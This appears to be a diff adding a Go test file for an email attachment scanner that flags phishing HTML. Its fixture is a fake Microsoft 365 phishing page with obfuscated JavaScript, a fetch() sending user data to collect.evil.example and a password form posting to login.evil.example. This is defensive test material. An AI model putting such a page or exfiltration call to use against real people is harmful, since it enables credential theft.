@@ -0,0 +1,38 @@
+package attachment
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestInspectHTML(t *testing.T) {
+	page := `<!DOCTYPE html><html><head><title>Microsoft 365</title>
+<meta http-equiv="refresh" content="30; url=https://cdn.evil.example/next">
+<script>var p = "\x68\x74\x74\x70\x73\x3a\x2f\x2f" + "` + strings.Repeat(`\x41`, 60) + `";
+eval(unescape(p)); fetch("https://collect.evil.example/log?u=" + user);</script></head>
+<body><img src="data:image/png;base64,iVBORw0KGgo=">
+<form action="https://login.evil.example/post.php" method="post">
+<input type="email" name="u"><input type="password" name="p"></form>
+<a href="data:text/html;base64,PHNjcmlwdD4=">Deschide</a></body></html>`
+
+	a := InspectFile("Factura_0923.html", "text/html", []byte(page))
+	want := "attachment-data-uri,attachment-html-form,attachment-html-password,attachment-html-refresh,attachment-obfuscated-js"
+	if got := checks(a); got != want {
+		t.Errorf("expected findings [%s], got [%s]", want, got)
+	}
+	wantURLs := []string{"https://login.evil.example/post.php", "https://collect.evil.example/log?u=", "https://cdn.evil.example/next"}
+	if strings.Join(a.URLs, " ") != strings.Join(wantURLs, " ") {
+		t.Errorf("URLs = %q, want %q", a.URLs, wantURLs)
+	}
+
+	plain := InspectFile("newsletter.html", "text/html", []byte(`<html><body><p>Salut</p><a href="https://example.com/">site</a><img src="data:image/png;base64,AAAA"></body></html>`))
+	if len(plain.Findings) != 0 || len(plain.URLs) != 1 {
+		t.Errorf("plain page: findings %v, URLs %q", plain.Findings, plain.URLs)
+	}
+}
+
+func TestObfuscationNeedsTwoSigns(t *testing.T) {
+	if signs := obfuscation(`document.write("<p>hello</p>")`); len(signs) != 1 {
+		t.Errorf("expected a single sign, got %v", signs)
+	}
+}